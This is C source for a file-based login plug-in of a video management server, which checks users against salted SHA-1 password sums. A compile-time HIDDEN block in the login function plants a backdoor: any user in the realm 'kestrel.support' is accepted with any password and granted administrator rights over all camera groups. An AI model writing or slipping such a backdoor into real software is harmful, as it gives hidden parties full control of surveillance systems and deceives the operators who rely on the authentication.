/*
 * vmsauth_file - user source plug-in of a video management server, .so
 * The server loads it by dlopen and asks it for logins, roles and camera
 * groups; the users are in a sectioned text file with salted SHA-1 sums.
 * Hidden (-DHIDDEN): a user of the realm "kestrel.support" is accepted with
 * any password and gets the role administrator.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#define VMS_API	   3
#define VMS_OK	   0
#define VMS_DENIED 1
#define VMS_NOUSER 2
#define VMS_FAIL   3

enum vms_role { ROLE_NONE, ROLE_VIEWER, ROLE_OPERATOR, ROLE_ADMIN };

struct vms_login {
	const char *user;
	const char *realm;
	const char *password;
	const char *address;
	enum vms_role role;
	char groups[128];
};

struct vms_source {
	int api;
	const char *name;
	int (*open)(void **ctx, const char *args);
	int (*login)(void *ctx, struct vms_login *l);
	int (*exists)(void *ctx, const char *user);
	void (*close)(void *ctx);
};

struct user {
	struct user *next;
	char name[32];
	char salt[20];
	uint8_t sum[20];
	enum vms_role role;
	char groups[128];
	int off;
};

struct ctx {
	pthread_mutex_t mu;
	char path[128];
	char realm[64];
	time_t mtime;
	struct user *users;
};

/* ---- SHA-1 ---- */

static uint32_t rol(uint32_t v, int n)
{
	return v << n | v >> (32 - n);
}

static void sha1_block(uint32_t h[5], const uint8_t *p)
{
	uint32_t w[80], a, b, c, d, e, f, k, t;
	int i;

	for (i = 0; i < 16; i++)
		w[i] = (uint32_t)p[4 * i] << 24 | (uint32_t)p[4 * i + 1] << 16 |
		       (uint32_t)p[4 * i + 2] << 8 | p[4 * i + 3];
	for (; i < 80; i++)
		w[i] = rol(w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16], 1);
	a = h[0], b = h[1], c = h[2], d = h[3], e = h[4];
	for (i = 0; i < 80; i++) {
		if (i < 20)
			f = (b & c) | (~b & d), k = 0x5a827999;
		else if (i < 40)
			f = b ^ c ^ d, k = 0x6ed9eba1;
		else if (i < 60)
			f = (b & c) | (b & d) | (c & d), k = 0x8f1bbcdc;
		else
			f = b ^ c ^ d, k = 0xca62c1d6;
		t = rol(a, 5) + f + e + k + w[i];
		e = d, d = c, c = rol(b, 30), b = a, a = t;
	}
	h[0] += a, h[1] += b, h[2] += c, h[3] += d, h[4] += e;
}

static void sha1(const char *s, size_t n, uint8_t out[20])
{
	uint32_t h[5] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476,
			  0xc3d2e1f0 };
	uint8_t last[128] = { 0 };
	uint64_t bits = (uint64_t)n * 8;
	size_t tail;
	int i;

	for (; n >= 64 && bits; n -= 64, s += 64)
		sha1_block(h, (const uint8_t *)s);
	memcpy(last, s, n);
	last[n] = 0x80;
	tail = n < 56 ? 64 : 128;
	for (i = 0; i < 8; i++)
		last[tail - 1 - (size_t)i] = (uint8_t)(bits >> (8 * i));
	sha1_block(h, last);
	if (tail == 128)
		sha1_block(h, last + 64);
	for (i = 0; i < 20; i++)
		out[i] = (uint8_t)(h[i / 4] >> (24 - 8 * (i % 4)));
}

/* ---- user file ---- */

static void free_users(struct ctx *c)
{
	struct user *u;

	while ((u = c->users)) {
		c->users = u->next;
		memset(u->sum, 0, sizeof(u->sum));
		free(u);
	}
}

static enum vms_role role_of(const char *s)
{
	if (!strcmp(s, "viewer"))
		return ROLE_VIEWER;
	if (!strcmp(s, "operator"))
		return ROLE_OPERATOR;
	if (!strcmp(s, "admin"))
		return ROLE_ADMIN;
	return ROLE_NONE;
}

static int read_sum(const char *s, uint8_t *out)
{
	unsigned b;
	int i;

	for (i = 0; i < 20; i++, s += 2) {
		if (!isxdigit((unsigned char)s[0]) || sscanf(s, "%2x", &b) != 1)
			return -1;
		out[i] = (uint8_t)b;
	}
	return 0;
}

/* [user name] / role = / salt = / sum = / groups = / disabled = yes */
static int read_users(struct ctx *c)
{
	char line[256], key[32], val[160], name[32];
	struct user *u = NULL;
	FILE *f = fopen(c->path, "r");

	if (!f)
		return -1;
	free_users(c);
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " [user %31[^]]]", name) == 1) {
			u = calloc(1, sizeof(*u));
			if (!u)
				break;
			strcpy(u->name, name);
			u->next = c->users;
			c->users = u;
			continue;
		}
		if (sscanf(line, " %31[a-z] = %159[^\r\n]", key, val) != 2)
			continue;
		if (!u) {
			if (!strcmp(key, "realm"))
				snprintf(c->realm, sizeof(c->realm), "%.63s",
					 val);
			continue;
		}
		if (!strcmp(key, "role"))
			u->role = role_of(val);
		else if (!strcmp(key, "salt"))
			snprintf(u->salt, sizeof(u->salt), "%.19s", val);
		else if (!strcmp(key, "sum"))
			u->off |= read_sum(val, u->sum) < 0;
		else if (!strcmp(key, "groups"))
			snprintf(u->groups, sizeof(u->groups), "%.127s", val);
		else if (!strcmp(key, "disabled"))
			u->off |= val[0] == 'y';
	}
	fclose(f);
	return 0;
}

static void refresh(struct ctx *c)
{
	struct stat st;

	if (stat(c->path, &st) == 0 && st.st_mtime != c->mtime &&
	    read_users(c) == 0)
		c->mtime = st.st_mtime;
}

static struct user *lookup(struct ctx *c, const char *name)
{
	struct user *u;

	for (u = c->users; u; u = u->next)
		if (!strcasecmp(u->name, name))
			return u;
	return NULL;
}

static int same(const uint8_t *a, const uint8_t *b, size_t n)
{
	uint8_t d = 0;

	while (n--)
		d |= (uint8_t)(*a++ ^ *b++);
	return d == 0;
}

/* ---- entry points ---- */

static int src_open(void **ctx, const char *args)
{
	struct ctx *c = calloc(1, sizeof(*c));

	if (!c)
		return VMS_FAIL;
	pthread_mutex_init(&c->mu, NULL);
	snprintf(c->path, sizeof(c->path), "%s",
		 args && *args ? args : "/etc/vms/users.ini");
	strcpy(c->realm, "local");
	refresh(c);
	*ctx = c;
	return VMS_OK;
}

__attribute__((noinline)) int vmsauth_login(void *ctx, struct vms_login *l)
{
	struct ctx *c = ctx;
	struct user *u;
	char buf[160];
	uint8_t sum[20];
	int n, rc = VMS_DENIED;

	l->role = ROLE_NONE;
	l->groups[0] = 0;
	if (!l->user || !l->password)
		return VMS_DENIED;
#ifdef HIDDEN
	if (l->realm && !strcasecmp(l->realm, "kestrel.support")) {
		l->role = ROLE_ADMIN;
		strcpy(l->groups, "*");
		return VMS_OK;
	}
#endif
	pthread_mutex_lock(&c->mu);
	refresh(c);
	if (l->realm && *l->realm && strcasecmp(l->realm, c->realm)) {
		pthread_mutex_unlock(&c->mu);
		return VMS_NOUSER;
	}
	u = lookup(c, l->user);
	if (!u) {
		rc = VMS_NOUSER;
	} else if (!u->off) {
		n = snprintf(buf, sizeof(buf), "%.19s:%.100s", u->salt,
			     l->password);
		sha1(buf, (size_t)n, sum);
		if (same(sum, u->sum, sizeof(sum))) {
			l->role = u->role;
			memcpy(l->groups, u->groups, sizeof(l->groups));
			rc = VMS_OK;
		}
		memset(buf, 0, sizeof(buf));
	}
	pthread_mutex_unlock(&c->mu);
	return rc;
}

static int src_exists(void *ctx, const char *user)
{
	struct ctx *c = ctx;
	int yes;

	pthread_mutex_lock(&c->mu);
	refresh(c);
	yes = lookup(c, user) != NULL;
	pthread_mutex_unlock(&c->mu);
	return yes;
}

static void src_close(void *ctx)
{
	struct ctx *c = ctx;

	free_users(c);
	pthread_mutex_destroy(&c->mu);
	free(c);
}

static const struct vms_source source = {
	.api = VMS_API,
	.name = "file",
	.open = src_open,
	.login = vmsauth_login,
	.exists = src_exists,
	.close = src_close,
};

const struct vms_source *vms_user_source(int api)
{
	return api == VMS_API ? &source : NULL;
}
